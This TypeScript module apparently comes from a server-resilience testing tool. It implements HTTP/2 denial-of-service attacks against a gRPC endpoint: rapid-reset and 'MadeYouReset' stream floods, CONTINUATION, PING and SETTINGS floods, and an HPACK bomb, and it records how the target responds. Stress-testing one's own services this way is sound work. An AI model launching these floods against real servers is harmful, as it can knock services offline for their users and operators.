/** HTTP/2 attacks with small frames: streams that are reset at once, and floods of control frames. */
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, Findings, type Run, seconds } from '../attack';
import {
  FLAG,
  grpcHeaders,
  h2Frame,
  headerBlock,
  int32,
  openConnection,
  PREFACE,
  setting,
  TYPE,
  write,
} from '../http2-frames';
import { originOf } from '../open-socket';

const HTTP1 = 'It uses HTTP/1.1 only.';
const FLOOD_MS_MAX = 8000;
const CANCEL = 8;
const BATCH = 200;

const hello = Buffer.concat([PREFACE, h2Frame(TYPE.settings, FLAG.none, 0)]);

/** Writes `first` and then the frames that `make` returns for each index from 0. */
const flood = async (
  socket: Socket,
  frames: number,
  make: (index: number) => Buffer,
  first: Buffer = hello,
): Promise<void> => {
  await write(socket, first);
  for (let done = 0; done < frames && !socket.destroyed; done += BATCH) {
    await write(socket, Buffer.concat(Array.from({ length: BATCH }, (_, index) => make(done + index))));
  }
};

interface Flood {
  readonly name: string;
  readonly make: (index: number) => Buffer;
  readonly first?: Buffer;
  /** False if the client does not read responses, so that the server must buffer them. */
  readonly reads?: boolean;
}

const streamOf = (index: number): number => 2 * index + 1;

const RESETS: readonly Flood[] = [
  {
    name: 'reset after HEADERS',
    make: (index) => {
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
      return Buffer.concat([open, h2Frame(TYPE.reset, FLAG.none, streamOf(index), int32(CANCEL))]);
    },
  },
  {
    name: 'reset after the call',
    make: (index) => {
      const stream = streamOf(index);
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, stream, grpcHeaders('ListSkills'));
      const request = h2Frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5));
      return Buffer.concat([open, request, h2Frame(TYPE.reset, FLAG.none, stream, int32(CANCEL))]);
    },
  },
  {
    // The server resets the stream itself, because a WINDOW_UPDATE by 0 is a stream error ("MadeYouReset").
    name: 'reset by the server',
    make: (index) => {
      const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
      return Buffer.concat([open, h2Frame(TYPE.windowUpdate, FLAG.none, streamOf(index), int32(0))]);
    },
  },
];

const open = h2Frame(TYPE.headers, FLAG.none, 1, grpcHeaders('GetSkill'));
const began = h2Frame(TYPE.headers, FLAG.endHeaders, 1, grpcHeaders('GetSkill'));
/** A header of 4 KB that HPACK stores as entry 62. Later frames refer to it a thousand times with one byte each. */
const storedHeader = Buffer.concat([
  Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]),
  Buffer.alloc(4000, 'x'),
  grpcHeaders('GetSkill').subarray(0, 0),
]);

const FLOODS: readonly Flood[] = [
  { name: 'SETTINGS', make: () => h2Frame(TYPE.settings, FLAG.none, 0, setting(4, 65_535)), reads: false },
  { name: 'PING', make: () => h2Frame(TYPE.ping, FLAG.none, 0, Buffer.alloc(8)), reads: false },
  { name: 'PRIORITY', make: (index) => h2Frame(TYPE.priority, FLAG.none, streamOf(index), Buffer.alloc(5)) },
  { name: 'WINDOW_UPDATE', make: () => h2Frame(TYPE.windowUpdate, FLAG.none, 0, int32(1)) },
  {
    name: 'empty CONTINUATION',
    first: Buffer.concat([hello, open]),
    make: () => h2Frame(TYPE.continuation, FLAG.none, 1),
  },
  {
    name: 'CONTINUATION with headers',
    first: Buffer.concat([hello, open]),
    make: (index) =>
      h2Frame(TYPE.continuation, FLAG.none, 1, headerBlock({ [`x-${index}`]: 'x'.repeat(1000) })),
  },
  {
    name: 'empty DATA',
    first: Buffer.concat([hello, began]),
    make: () => h2Frame(TYPE.data, FLAG.none, 1),
  },
  {
    name: 'HPACK bomb',
    make: (index) => {
      const block = index === 0 ? storedHeader : Buffer.alloc(1000, 0xbe);
      return h2Frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), block);
    },
  },
  { name: 'unknown frames', make: () => h2Frame(0xee, 0xff, 0, Buffer.alloc(100)) },
  {
    name: 'bytes that are not HTTP/2',
    first: Buffer.from('GET / HTTP/1.1\r\n\r\n'),
    make: () => Buffer.alloc(100, 'x'),
  },
];

const floods =
  (kinds: readonly Flood[]): Run =>
  async (target, { frames, patienceMs }) => {
    const findings = new Findings();
    await Promise.all(
      kinds.map(async ({ name, make, first, reads = true }) => {
        const { socket, ended } = openConnection(originOf(target, 'grpc'));
        if (!reads) socket.pause();
        // A server that stops reading blocks the flood.
        await Promise.race([flood(socket, frames, make, first), sleep(FLOOD_MS_MAX)]);
        socket.resume();
        const { how, afterMs } = await ended(patienceMs);
        findings.record(`${name}: ${how}${how === 'kept open' ? '' : ` after ${seconds(afterMs)}`}`);
      }),
    );
    return findings.finding();
  };

export const rapidReset: Attack = {
  name: 'HTTP/2 rapid reset',
  description:
    '20,000 streams, each opened and reset at once: by RST_STREAM, or by an error that makes the server reset it',
  on: { rest: HTTP1, graphql: HTTP1, grpc: floods(RESETS), soap: HTTP1 },
};

export const frameFloods: Attack = {
  name: 'HTTP/2 floods',
  description:
    '20,000 frames of each kind: SETTINGS and PING whose replies are not read, endless CONTINUATION, HPACK bombs',
  on: { rest: HTTP1, graphql: HTTP1, grpc: floods(FLOODS), soap: HTTP1 },
};
